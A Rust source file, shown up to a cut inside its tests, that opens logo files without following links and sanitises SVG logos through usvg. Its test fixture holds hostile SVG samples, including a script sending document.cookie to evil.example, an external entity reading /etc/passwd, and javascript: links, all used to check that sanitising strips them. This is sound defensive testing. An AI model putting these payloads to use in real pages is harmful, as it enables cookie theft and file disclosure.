//! A customer's logo (`[branding] logo = "path"`), published as
//! `logo.<ext>` in the customer's bundle.
//!
//! Two things make that safe:
//!
//! - **Opened once, no links, checked on the handle.** The path is opened
//!   relative to the customer file's folder without following any link
//!   (Linux: `openat2` with `RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS`; other
//!   Unix systems, or when `openat2` is blocked: one `openat(O_NOFOLLOW)` per
//!   component), and the size and type are checked with `fstat` on the
//!   opened handle, which is then read. Nothing is looked up by path twice,
//!   so swapping a file for a link between a check and the read cannot
//!   publish a file from outside the folder. A link is refused even when it
//!   stays inside the folder: seloste does not follow links at all here.
//!   (Without Unix's `openat`, on Windows, the path is checked before it is
//!   opened: no link on it, and its real path inside the folder.)
//! - **SVG is re-written.** An SVG opened at its own URL runs its scripts,
//!   so it is parsed with `usvg` and published as usvg's re-serialisation: a
//!   fixed subset of paths, groups, paint servers, clip paths, masks,
//!   filters and embedded raster images. Scripts, event handlers,
//!   `foreignObject`, links, animation, style sheets, entities and every
//!   external reference do not survive; no file and no URL is ever loaded
//!   while parsing. Raster types (PNG, JPEG, WebP) are checked by their
//!   first bytes; a browser cannot run them.
//!
//! **Text in SVG logos is refused.** Without fonts usvg cannot keep text:
//! it lays text out with fonts to turn it into paths, and without the `text`
//! feature (or with it, but an empty font database, which is the only
//! deterministic and machine-independent choice) it silently drops every
//! `<text>` element, even with `WriteOptions::preserve_text`. A wordmark
//! would lose its words and still be published. So a logo whose SVG has
//! text is an error with the fix: convert the text to paths (outlines) in
//! the drawing program, which is what logo files made for print have anyway.

use std::collections::HashMap;
use std::fs::File;
use std::io::Read;
use std::path::{Component, Path, PathBuf};
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, Ordering};

use usvg::roxmltree;

use crate::diagnostic::Diagnostic;
use crate::load::decode::L007;
use crate::model::{Customer, Located};
use crate::source::SourceMap;

/// The largest logo file read, in bytes.
const MAX_FILE: u64 = 2 * 1024 * 1024;
/// The largest re-written SVG published, in bytes.
const MAX_SVG_OUTPUT: usize = 4 * 1024 * 1024;

/// Reads a customer's logo, relative to its file, into `logo_file`; every
/// problem is an `L007` at the `logo` value.
pub(super) fn read_logo(c: &mut Customer, sources: &SourceMap, diagnostics: &mut Vec<Diagnostic>) {
    let Some(b) = &mut c.branding else { return };
    let Some(logo) = &b.logo else { return };
    let dir = sources
        .path(c.file)
        .parent()
        .map(Path::to_path_buf)
        .unwrap_or_default();
    match load(&dir, &logo.value) {
        Ok(file) => b.logo_file = Some(file),
        Err(problem) => diagnostics.push(problem.diagnostic(logo)),
    }
}

/// Reads the logo of a project's `[branding]` in `seloste.toml` (for
/// `build`), relative to that file's folder `dir`, into `logo_file`, with
/// the same checks as a customer's; every problem is an `L007`.
pub fn read_project_logo(b: &mut crate::model::Branding, dir: &Path) -> Option<Diagnostic> {
    let logo = b.logo.as_ref()?;
    match load(dir, &logo.value) {
        Ok(file) => {
            b.logo_file = Some(file);
            None
        }
        Err(problem) => {
            let mut d = problem.diagnostic(logo);
            d.message = of_project(&d.message);
            d.help = d.help.as_deref().map(of_project);
            Some(d)
        }
    }
}

/// A customer's logo message reworded for the project's logo.
fn of_project(s: &str) -> String {
    s.replace("the customer's folder", "the folder of seloste.toml")
}

/// Why a logo cannot be published.
#[derive(Debug)]
enum Problem {
    /// Not a type seloste publishes (by the extension).
    NotAnImage,
    /// An absolute path, `..`, or a way out of the folder.
    Outside,
    /// A link: the file itself (`None`) or the folder named.
    Link(Option<String>),
    NotFound,
    NotAFile,
    TooLarge,
    Unreadable(std::io::Error),
    /// The bytes are not of the type the extension says.
    WrongType(String),
    Svg(SvgError),
}

impl Problem {
    fn diagnostic(self, logo: &Located<String>) -> Diagnostic {
        let at = |message: String| {
            Diagnostic::new(
                L007,
                logo.span.clone(),
                format!("the logo `{}` {message}", logo.value),
            )
            .label("not a usable logo")
        };
        let in_folder = "put the image in the customer's folder (or below it) and give its path relative to this file";
        match self {
            Problem::NotAnImage => Diagnostic::new(
                L007,
                logo.span.clone(),
                format!("`{}` is not an image seloste can publish", logo.value),
            )
            .label("expected .svg, .png, .jpg or .webp")
            .help("give the path of the logo image, relative to this file"),
            Problem::Outside => at("is outside the customer's folder".into()).help(in_folder),
            Problem::Link(None) => at("is a link; give the path of the image file itself".into())
                .help("seloste follows no links to logos, not even ones that stay in the customer's folder: copy the image there instead"),
            Problem::Link(Some(folder)) => at(format!(
                "is in `{folder}`, which is a link; give the path of the image file itself"
            ))
            .help("seloste follows no links to logos, not even ones that stay in the customer's folder: copy the image there instead"),
            Problem::NotFound => at("cannot be found".into()).help(in_folder),
            Problem::NotAFile => at("is not a regular file".into()).help(in_folder),
            Problem::TooLarge => at("is larger than 2 MB".into())
                .help("a logo shown 48 pixels high needs far less: save a smaller image"),
            Problem::Unreadable(e) => at(format!("cannot be read: {e}")).help(in_folder),
            Problem::WrongType(ext) => at(format!("is not a {ext} image"))
                .help("give the image the extension of its type (.svg, .png, .jpg or .webp)"),
            Problem::Svg(SvgError::Unreadable(why)) => {
                at(format!("is not an SVG image seloste can read: {why}"))
                    .help("save the logo again as plain SVG from the drawing program")
            }
            Problem::Svg(SvgError::Text) => at("has text, which seloste cannot publish".into())
                .help("seloste re-writes SVG logos without fonts, so text would be lost: convert the text to paths (outlines) in the drawing program (Inkscape: Path > Object to Path; Illustrator: Type > Create Outlines) and save the logo again"),
            Problem::Svg(SvgError::TooComplex) => {
                at("repeats too much content to be re-written safely".into())
                    .help("save a simpler logo: without deep nesting, and without thousands of repeated elements, markers or entities")
            }
            Problem::Svg(SvgError::TooLarge) => at("is larger than 4 MB once re-written".into())
                .help("save a simpler logo, or a PNG"),
        }
    }
}

/// The logo `value` (a path relative to `dir`) as it is published: its
/// file name in the bundle and its bytes.
fn load(dir: &Path, value: &str) -> Result<(String, Vec<u8>), Problem> {
    let relative = Path::new(value);
    let ext = relative
        .extension()
        .and_then(|e| e.to_str())
        .map(str::to_ascii_lowercase)
        .unwrap_or_default();
    if !matches!(ext.as_str(), "svg" | "png" | "jpg" | "jpeg" | "webp") {
        return Err(Problem::NotAnImage);
    }
    // The logo is published: it must be a file the customer's folder holds,
    // not any file of the machine that a path or a link can reach.
    if relative.is_absolute()
        || relative.as_os_str().is_empty()
        || relative
            .components()
            .any(|c| !matches!(c, Component::Normal(_)))
    {
        return Err(Problem::Outside);
    }
    let dir = if dir.as_os_str().is_empty() {
        Path::new(".")
    } else {
        dir
    };
    let file = open_beneath(dir, relative).map_err(|e| e.into_problem(dir, relative))?;
    let bytes = read_handle(file)?;
    if ext == "svg" {
        let svg = sanitize_svg(&bytes).map_err(Problem::Svg)?;
        return Ok(("logo.svg".to_string(), svg));
    }
    if !looks_like(&ext, &bytes) {
        return Err(Problem::WrongType(ext));
    }
    Ok((format!("logo.{ext}"), bytes))
}

/// Reads an opened logo: the handle must be a regular file of at most
/// [`MAX_FILE`] bytes, checked with `fstat` on the handle itself.
fn read_handle(file: File) -> Result<Vec<u8>, Problem> {
    let meta = file.metadata().map_err(Problem::Unreadable)?;
    if !meta.is_file() {
        return Err(Problem::NotAFile);
    }
    if meta.len() > MAX_FILE {
        return Err(Problem::TooLarge);
    }
    let mut bytes = Vec::with_capacity(meta.len() as usize);
    // One byte more than allowed tells a file that grew since the `fstat`.
    file.take(MAX_FILE + 1)
        .read_to_end(&mut bytes)
        .map_err(Problem::Unreadable)?;
    if bytes.len() as u64 > MAX_FILE {
        return Err(Problem::TooLarge);
    }
    Ok(bytes)
}

/// Whether `bytes` start like an image of type `ext`.
fn looks_like(ext: &str, bytes: &[u8]) -> bool {
    match ext {
        "png" => bytes.starts_with(b"\x89PNG\r\n\x1a\n"),
        "jpg" | "jpeg" => bytes.starts_with(&[0xFF, 0xD8, 0xFF]),
        "webp" => bytes.len() > 12 && &bytes[..4] == b"RIFF" && &bytes[8..12] == b"WEBP",
        "gif" => bytes.starts_with(b"GIF87a") || bytes.starts_with(b"GIF89a"),
        _ => false,
    }
}

// ---------------------------------------------------------------------------
// Opening without following links

/// Why the logo could not be opened.
#[derive(Debug)]
enum OpenError {
    /// A link (or a way out of the folder) on the path.
    Link,
    NotFound,
    Other(std::io::Error),
}

impl OpenError {
    /// The problem to report. The open has failed already; looking at the
    /// path again here only chooses the words.
    fn into_problem(self, dir: &Path, relative: &Path) -> Problem {
        match (find_link(dir, relative), self) {
            (Some(link), _) if link == relative => Problem::Link(None),
            (Some(link), _) => Problem::Link(Some(link.display().to_string())),
            (None, OpenError::Link) => Problem::Outside,
            (None, OpenError::NotFound) => Problem::NotFound,
            (None, OpenError::Other(e)) => Problem::Unreadable(e),
        }
    }
}

/// The first prefix of `relative` (below `dir`) that is a link, if any.
fn find_link(dir: &Path, relative: &Path) -> Option<PathBuf> {
    let mut prefix = PathBuf::new();
    for c in relative.components() {
        prefix.push(c);
        if std::fs::symlink_metadata(dir.join(&prefix)).is_ok_and(|m| m.file_type().is_symlink()) {
            return Some(prefix);
        }
    }
    None
}

#[cfg(unix)]
impl From<rustix::io::Errno> for OpenError {
    fn from(e: rustix::io::Errno) -> Self {
        use rustix::io::Errno;
        match e {
            // ELOOP: a link where none may be (RESOLVE_NO_SYMLINKS,
            // O_NOFOLLOW); EXDEV: a way out of the folder (RESOLVE_BENEATH);
            // EMLINK: O_NOFOLLOW on a link on FreeBSD.
            Errno::LOOP | Errno::XDEV | Errno::MLINK => OpenError::Link,
            // ENOTDIR: a folder on the path is a file.
            Errno::NOENT | Errno::NOTDIR => OpenError::NotFound,
            e => OpenError::Other(e.into()),
        }
    }
}

/// Flags for the logo file itself: read only; a FIFO must not block the
/// open and a terminal must not become ours (`fstat` refuses both after).
#[cfg(unix)]
fn file_flags() -> rustix::fs::OFlags {
    use rustix::fs::OFlags;
    OFlags::RDONLY | OFlags::CLOEXEC | OFlags::NONBLOCK | OFlags::NOCTTY
}

/// Opens `relative` (only normal components) below `dir`, following no link.
#[cfg(target_os = "linux")]
fn open_beneath(dir: &Path, relative: &Path) -> Result<File, OpenError> {
    use rustix::fs::{Mode, OFlags, ResolveFlags};
    use rustix::io::Errno;
    // The customer's folder itself is the vendor's business, links included.
    let dirfd = rustix::fs::open(
        dir,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    match rustix::fs::openat2(
        &dirfd,
        relative,
        file_flags(),
        Mode::empty(),
        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
    ) {
        Ok(fd) => Ok(File::from(fd)),
        // No openat2 (before Linux 5.6), or a seccomp filter that refuses it.
        Err(Errno::NOSYS | Errno::PERM) => walk(dirfd, relative),
        Err(e) => Err(e.into()),
    }
}

/// Opens `relative` (only normal components) below `dir`, following no link.
#[cfg(all(unix, not(target_os = "linux")))]
fn open_beneath(dir: &Path, relative: &Path) -> Result<File, OpenError> {
    use rustix::fs::{Mode, OFlags};
    let dirfd = rustix::fs::open(
        dir,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    walk(dirfd, relative)
}

/// Opens `relative` below the folder `dirfd` one component at a time, none
/// of them a link: without `..` and links, the file is below the folder.
#[cfg(unix)]
fn walk(dirfd: rustix::fd::OwnedFd, relative: &Path) -> Result<File, OpenError> {
    use rustix::fs::{Mode, OFlags};
    let mut components = relative.components().peekable();
    let mut folder = dirfd;
    while let Some(c) = components.next() {
        let Component::Normal(name) = c else {
            return Err(OpenError::Link);
        };
        if components.peek().is_none() {
            let fd = rustix::fs::openat(
                &folder,
                name,
                file_flags() | OFlags::NOFOLLOW,
                Mode::empty(),
            )?;
            return Ok(File::from(fd));
        }
        folder = rustix::fs::openat(
            &folder,
            name,
            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::empty(),
        )?;
    }
    Err(OpenError::NotFound)
}

/// Opens `relative` below `dir`. Without `openat` this is a check before
/// the open (no link on the path, the real path inside the folder), not
/// one on the handle.
#[cfg(not(unix))]
fn open_beneath(dir: &Path, relative: &Path) -> Result<File, OpenError> {
    if find_link(dir, relative).is_some() {
        return Err(OpenError::Link);
    }
    let not_found = |e: std::io::Error| match e.kind() {
        std::io::ErrorKind::NotFound => OpenError::NotFound,
        _ => OpenError::Other(e),
    };
    let root = dir.canonicalize().map_err(not_found)?;
    let real = dir.join(relative).canonicalize().map_err(not_found)?;
    if !real.starts_with(&root) {
        return Err(OpenError::Link);
    }
    File::open(&real).map_err(not_found)
}

// ---------------------------------------------------------------------------
// SVG

/// Why an SVG logo cannot be published.
#[derive(Debug, PartialEq)]
enum SvgError {
    /// Not an SVG usvg can read, with the reason.
    Unreadable(String),
    /// It has text, which would be lost (see the module documentation).
    Text,
    /// Re-writing it would take too much memory or nesting.
    TooComplex,
    /// The re-written SVG is larger than [`MAX_SVG_OUTPUT`].
    TooLarge,
}

/// How much work (about bytes of memory in usvg) one logo may cost, nested
/// SVG images included. A 2 MB logo without repetition costs about its size
/// plus [`ELEMENT_COST`] per element.
const BUDGET: u64 = 64 * 1024 * 1024;
/// The cost of one element, whatever its attributes.
const ELEMENT_COST: u64 = 128;
/// The deepest nesting of elements and references followed (usvg stops at
/// 1024 and recurses on the stack).
const MAX_DEPTH: usize = 256;

/// The part of [`BUDGET`] left.
struct Budget(AtomicU64);

impl Budget {
    fn charge(&self, cost: u64) -> Result<(), SvgError> {
        self.0
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
                left.checked_sub(cost)
            })
            .map(|_| ())
            .map_err(|_| SvgError::TooComplex)
    }
}

/// The SVG `bytes` re-written to usvg's safe subset, deterministically (the
/// same bytes give the same output).
fn sanitize_svg(bytes: &[u8]) -> Result<Vec<u8>, SvgError> {
    let budget = Budget(AtomicU64::new(BUDGET));
    let tree = parse(bytes, &budget, 0)?;
    let out = tree.to_string(&usvg::WriteOptions::default());
    // usvg applies the viewBox as a transform and writes only `width` and
    // `height`; an SVG without a viewBox is not scaled to the height the
    // page gives the logo, so give it the one that keeps it as it is.
    let size = tree.size();
    let out = match out.strip_prefix("<svg ") {
        Some(rest) => format!(
            "<svg viewBox=\"0 0 {} {}\" {rest}",
            size.width(),
            size.height()
        ),
        None => out,
    };
    if out.len() > MAX_SVG_OUTPUT {
        return Err(SvgError::TooLarge);
    }
    Ok(out.into_bytes())
}

/// Parses an SVG with options that load nothing: no file, no URL, no font.
/// `level` is 1 for an SVG image embedded in the logo (as a `data:` URL).
fn parse(bytes: &[u8], budget: &Budget, level: u8) -> Result<usvg::Tree, SvgError> {
    budget.charge(bytes.len() as u64)?;
    if bytes.starts_with(&[0x1f, 0x8b]) {
        return Err(SvgError::Unreadable(
            "it is compressed (.svgz); save it uncompressed".into(),
        ));
    }
    let text = std::str::from_utf8(bytes)
        .map_err(|_| SvgError::Unreadable("it is not UTF-8 text".into()))?;
    // Entities are expanded while parsing: count them before.
    budget.charge(entity_expansion(text))?;
    let doc = roxmltree::Document::parse_with_options(
        text,
        roxmltree::ParsingOptions {
            allow_dtd: true,
            nodes_limit: 1_000_000,
            // External entities are never loaded (referring to one is an error).
            entity_resolver: None,
        },
    )
    .map_err(|e| match e {
        roxmltree::Error::NodesLimitReached => SvgError::TooComplex,
        e => SvgError::Unreadable(e.to_string()),
    })?;
    budget.charge(cost(&doc)?)?;

    let refused: Mutex<Option<SvgError>> = Mutex::new(None);
    let refuse = |e: SvgError| {
        let mut first = refused.lock().unwrap_or_else(|p| p.into_inner());
        first.get_or_insert(e);
    };
    let options = usvg::Options {
        // Relative paths would otherwise be taken from the current folder.
        resources_dir: None,
        image_href_resolver: usvg::ImageHrefResolver {
            // Embedded images: raster ones whose bytes are what they say,
            // and SVG ones re-written like the logo (one level deep).
            resolve_data: Box::new(|mime: &str, data, _: &usvg::Options| {
                if let Some(kind) = raster(mime, &data) {
                    return Some(kind);
                }
                if mime != "image/svg+xml" {
                    return None;
                }
                if level > 0 {
                    refuse(SvgError::TooComplex);
                    return None;
                }
                match parse(&data, budget, level + 1) {
                    Ok(tree) => Some(usvg::ImageKind::SVG(tree)),
                    Err(e) => {
                        refuse(e);
                        None
                    }
                }
            }),
            // Anything but a `data:` URL: a file or a URL, never loaded.
            // (A browser loads none of them for an `<img>` either.)
            resolve_string: Box::new(|_: &str, _: &usvg::Options| None),
        },
        ..usvg::Options::default()
    };
    let tree = usvg::Tree::from_xmltree(&doc, &options).map_err(|e| match e {
        usvg::Error::ElementsLimitReached
        | usvg::Error::ParsingFailed(roxmltree::Error::NodesLimitReached) => SvgError::TooComplex,
        usvg::Error::ParsingFailed(roxmltree::Error::NoRootNode) => {
            SvgError::Unreadable("its outermost element is not <svg>".into())
        }
        usvg::Error::InvalidSize => SvgError::Unreadable(
            "it has no size (width and height, or a viewBox, greater than zero)".into(),
        ),
        e => SvgError::Unreadable(e.to_string()),
    })?;
    drop(options);
    match refused.into_inner().unwrap_or_else(|p| p.into_inner()) {
        Some(e) => Err(e),
        None => Ok(tree),
    }
}

/// An embedded raster image whose first bytes match its type.
fn raster(mime: &str, data: &std::sync::Arc<Vec<u8>>) -> Option<usvg::ImageKind> {
    let is = |ext| looks_like(ext, data);
    let data = data.clone();
    match mime {
        "image/png" | "text/plain" if is("png") => Some(usvg::ImageKind::PNG(data)),
        "image/jpeg" | "image/jpg" | "text/plain" if is("jpg") => Some(usvg::ImageKind::JPEG(data)),
        "image/webp" | "text/plain" if is("webp") => Some(usvg::ImageKind::WEBP(data)),
        "image/gif" | "text/plain" if is("gif") => Some(usvg::ImageKind::GIF(data)),
        _ => None,
    }
}

/// An upper bound of the bytes that references to the document's own
/// entities expand to: every `&name;` anywhere counts, each entity with its
/// references expanded. (roxmltree limits nesting, not the number of
/// references to one large entity.)
fn entity_expansion(text: &str) -> u64 {
    if !text.contains("<!ENTITY") {
        return 0;
    }
    let mut values: HashMap<&str, &str> = HashMap::new();
    for decl in text.split("<!ENTITY").skip(1) {
        let decl = decl.trim_start();
        if decl.starts_with('%') {
            continue; // a parameter entity, for the DTD only
        }
        let Some((name, rest)) = decl.split_once(|c: char| c.is_ascii_whitespace()) else {
            continue;
        };
        let rest = rest.trim_start();
        let value = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => rest[1..].split(q).next().unwrap_or(""),
            _ => "", // external (SYSTEM or PUBLIC): never loaded
        };
        values.entry(name).or_insert(value);
    }
    fn expanded<'t>(
        name: &'t str,
        depth: usize,
        values: &HashMap<&'t str, &'t str>,
        memo: &mut HashMap<&'t str, u64>,
    ) -> u64 {
        if let Some(&n) = memo.get(name) {
            return n;
        }
        let Some(value) = values.get(name) else {
            return 0;
        };
        // roxmltree refuses references nested deeper than 10: a chain that
        // long (or a loop) counts as too much, and the recursion stays short.
        if depth > 10 {
            return u64::MAX;
        }
        let n = references(value).fold(value.len() as u64, |n, r| {
            n.saturating_add(expanded(r, depth + 1, values, memo))
        });
        memo.insert(name, n);
        n
    }
    let mut memo = HashMap::new();
    references(text).fold(0u64, |n, r| {
        n.saturating_add(expanded(r, 0, &values, &mut memo))
    })
}

/// The names of the entity references (`&name;`) in `s`.
fn references(s: &str) -> impl Iterator<Item = &str> {
    s.split('&').skip(1).filter_map(|after| {
        let (name, _) = after.split_once(';')?;
        let ok = !name.is_empty()
            && !name.starts_with('#')
            && !name.contains(|c: char| c.is_ascii_whitespace() || c == '<' || c == '&');
        ok.then_some(name)
    })
}

/// The cost of converting `doc` (see [`BUDGET`]), or why it must not be:
/// text, or nesting deeper than [`MAX_DEPTH`].
fn cost(doc: &roxmltree::Document) -> Result<u64, SvgError> {
    const SVG_NS: &str = "http://www.w3.org/2000/svg";
    let mut ids = HashMap::new();
    let mut css = String::new();
    for n in doc.descendants().filter(roxmltree::Node::is_element) {
        if let Some(id) = n.attribute("id") {
            ids.entry(id).or_insert(n);
        }
        let svg = n.tag_name().namespace().is_none_or(|ns| ns == SVG_NS);
        let name = n.tag_name().name();
        if svg && name == "style" {
            css.extend(
                n.descendants()
                    .filter(|t| t.is_text())
                    .filter_map(|t| t.text()),
            );
        }
        if svg
            && name == "text"
            && n.descendants()
                .filter(|t| t.is_text())
                .filter_map(|t| t.text())
                .any(|t| !t.trim().is_empty())
        {
            return Err(SvgError::Text);
        }
    }
    let mut c = Cost {
        ids,
        memo: HashMap::new(),
        // A style sheet may copy each of its declarations onto every element.
        css: css.len() as u64,
        css_markers: css.contains("marker"),
        markers: 0,
    };
    // What the style sheet refers to may be copied onto every element too.
    let css_targets: Vec<_> = urls(&css).filter_map(|id| c.ids.get(id).copied()).collect();
    let mut css_refs = 0u64;
    for target in css_targets {
        css_refs = css_refs.saturating_add(c.weight(target, 1)?);
    }
    let mut markers = 0u64;
    for m in doc
        .descendants()
        .filter(|n| n.is_element() && n.tag_name().name() == "marker")
    {
        markers = markers.saturating_add(c.weight(m, 1)?);
    }
    c.css = c.css.saturating_add(css_refs);
    c.markers = markers;
    c.memo.clear();
    c.weight(doc.root_element(), 0)
}

/// The cost of each element: its own, and that of what it instantiates.
struct Cost<'a, 'input> {
    ids: HashMap<&'a str, roxmltree::Node<'a, 'input>>,
    memo: HashMap<roxmltree::NodeId, u64>,
    /// What the style sheet may add to each element.
    css: u64,
    /// Whether the style sheet may give shapes markers.
    css_markers: bool,
    /// The cost of all markers together.
    markers: u64,
}

impl<'a, 'input> Cost<'a, 'input> {
    /// The cost of `node` with its children, each element it refers to
    /// (`href="#id"`, `url(#id)`) counted once per reference, and markers
    /// once per vertex.
    fn weight(&mut self, node: roxmltree::Node<'a, 'input>, depth: usize) -> Result<u64, SvgError> {
        if depth > MAX_DEPTH {
            return Err(SvgError::TooComplex);
        }
        if let Some(&w) = self.memo.get(&node.id()) {
            return Ok(w);
        }
        // A reference back to an element being counted is a loop, which
        // usvg drops.
        self.memo.insert(node.id(), 0);
        let mut w = ELEMENT_COST.saturating_add(self.css);
        let mut has_markers = self.css_markers;
        for a in node.attributes() {
            w = w.saturating_add(a.value().len() as u64);
            has_markers |= a.name().starts_with("marker") || a.value().contains("marker");
            let href = (a.name() == "href")
                .then(|| a.value().trim().strip_prefix('#'))
                .flatten();
            for id in urls(a.value()).chain(href) {
                if let Some(&target) = self.ids.get(id) {
                    w = w.saturating_add(self.weight(target, depth + 1)?);
                }
            }
        }
        if has_markers
            && matches!(
                node.tag_name().name(),
                "path" | "line" | "polyline" | "polygon"
            )
        {
            let data = node
                .attribute("d")
                .or_else(|| node.attribute("points"))
                .unwrap_or("0 0 0 0");
            w = w.saturating_add(vertices(data).saturating_mul(self.markers));
        }
        for child in node.children() {
            if child.is_element() {
                w = w.saturating_add(self.weight(child, depth + 1)?);
            } else if let Some(t) = child.text() {
                w = w.saturating_add(t.len() as u64);
            }
        }
        self.memo.insert(node.id(), w);
        Ok(w)
    }
}

/// The ids of the `url(#id)` references in `s`.
fn urls(s: &str) -> impl Iterator<Item = &str> {
    s.split("url(").skip(1).filter_map(|after| {
        let inside = after.split(')').next()?.trim().trim_matches(['"', '\'']);
        inside.strip_prefix('#')
    })
}

/// At least the number of vertices of a path or point list: every number
/// has a digit, so runs of digits are at least as many.
fn vertices(data: &str) -> u64 {
    let mut runs = 0u64;
    let mut in_run = false;
    for b in data.bytes() {
        let digit = b.is_ascii_digit();
        if digit && !in_run {
            runs += 1;
        }
        in_run = digit;
    }
    runs.max(2)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = r##"<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY payload "<script>alert('entity')</script>">
  <!ENTITY ext SYSTEM "file:///etc/passwd">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="160" height="48" viewBox="0 0 160 48" onload="alert(1)">
  <script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
  <script xlink:href="http://evil.example/x.js"/>
  <style>@import url(http://evil.example/style.css);
    rect { fill: url(http://evil.example/paint.svg#p) #005a9c; }</style>
  <rect x="0" y="0" width="48" height="48" onclick="alert(2)"
        style="background: url(http://evil.example/bg.png)"/>
  <a href="javascript:alert(3)"><path d="M10 36 L24 12 L38 36 Z" fill="#ffffff"/></a>
  <a xlink:href="javascript:alert(4)"><circle cx="100" cy="24" r="10" fill="red"/></a>
  <foreignObject width="100" height="100">
    <div xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.example/"/>&payload;</div>
  </foreignObject>
  <image href="http://evil.example/track.png" width="10" height="10"/>
  <image xlink:href="../../../../etc/passwd" width="10" height="10"/>
  <use href="http://evil.example/sprite.svg#icon"/>
  <use xlink:href="http://evil.example/sprite.svg#icon"/>
  <set attributeName="onmouseover" to="alert(5)"/>
  <animate attributeName="href" to="javascript:alert(6)"/>
  <desc>&payload;</desc>
</svg>
"##;

    fn sanitized(svg: &str) -> String {
        String::from_utf8(sanitize_svg(svg.as_bytes()).expect("sanitized")).expect("utf-8")
    }

    /// The output with the namespace declarations taken out, which are
    /// the only `http://` usvg writes itself.
    fn without_namespaces(out: &str) -> String {
        out.replace("xmlns=\"http://www.w3.org/2000/svg\"", "")
            .replace("xmlns:xlink=\"http://www.w3.org/1999/xlink\"", "")
    }

    #[test]
    fn hostile_svg_loses_scripts_handlers_and_external_references() {
        let out = sanitized(HOSTILE);
        let rest = without_namespaces(&out);
        for bad in [
            "script",
            "onload",
            "onclick",
            "onmouseover",
            "foreignObject",
            "iframe",
            "javascript:",
            "http://",
            "evil",
            "<!ENTITY",
            "<!DOCTYPE",
            "&payload",
            "passwd",
            "alert",
            "<style",
            "@import",
            "<a ",
            "<set",
            "<animate",
        ] {
            assert!(!rest.contains(bad), "`{bad}` survived:\n{out}");
        }
        assert!(out.starts_with("<svg "), "{out}");
        // The shapes are kept (the rect and the circle as paths).
        assert!(out.matches("<path").count() >= 3, "{out}");
        assert!(out.contains("d=\"M 10 36 L 24 12 L 38 36 Z\""), "{out}");
        assert!(out.contains("viewBox=\"0 0 160 48\""), "{out}");
    }

    #[test]
    fn the_same_svg_gives_the_same_bytes() {
        let a = sanitize_svg(HOSTILE.as_bytes()).expect("a");
        let b = sanitize_svg(HOSTILE.as_bytes()).expect("b");
        assert_eq!(a, b);
        let gradient = r##"<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">
            <defs><linearGradient id="g"><stop offset="0" stop-color="red"/><stop offset="1" stop-color="blue"/></linearGradient>
            <clipPath id="c"><circle cx="10" cy="10" r="8"/></clipPath></defs>
            <rect width="20" height="20" fill="url(#g)" clip-path="url(#c)"/>
            <rect width="20" height="20" fill="url(#g)" clip-path="url(#c)" transform="rotate(45)"/></svg>"##;
        let first = sanitized(gradient);
        assert!(
            first.contains("<linearGradient") && first.contains("<clipPath"),
            "{first}"
        );
        for _ in 0..5 {
            assert_eq!(sanitized(gradient), first);
        }
    }

    /// What drawing programs write is accepted, style sheets and metadata
    /// included, and keeps its colours.
    #[test]
    fn common_exports_are_accepted() {
        let illustrator = r##"<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 160 48" style="enable-background:new 0 0 160 48;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#005A9C;}
	.st1{fill:#FFFFFF;}
</style>
<rect class="st0" width="48" height="48"/>
<polygon class="st1" points="10,36 24,12 38,36 "/>
</svg>
"##;
        let out = sanitized(illustrator);
        assert!(
            out.starts_with("<svg viewBox=\"0 0 160 48\" width=\"160\" height=\"48\""),
            "{out}"
        );
        assert!(
            out.contains("fill=\"#005a9c\"") && out.contains("fill=\"#ffffff\""),
            "{out}"
        );
        let inkscape = r##"<svg xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:svg="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="160mm" height="48mm" viewBox="0 0 160 48" version="1.1" id="svg8" inkscape:version="1.0" sodipodi:docname="logo.svg">
  <sodipodi:namedview id="base" pagecolor="#ffffff"/>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:title>Logo</dc:title></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1"><path style="fill:#005a9c;stroke:none" d="M 0,0 H 48 V 48 H 0 Z" id="rect10"/></g>
</svg>"##;
        let out = sanitized(inkscape);
        assert!(out.contains("fill=\"#005a9c\""), "{out}");
        assert!(
            !out.contains("inkscape") && !out.contains("purl.org"),
            "{out}"
        );
    }

    #[test]
    fn embedded_images_are_kept_only_as_checked_data() {
        use base64::Engine as _;
        let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
        let png =
            b64(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89");
        let fake_png =
            b64(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
        let inner = b64(br#"<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4" onload="alert(1)"><script>alert(2)</script><rect width="4" height="4"/></svg>"#);
        let svg = format!(
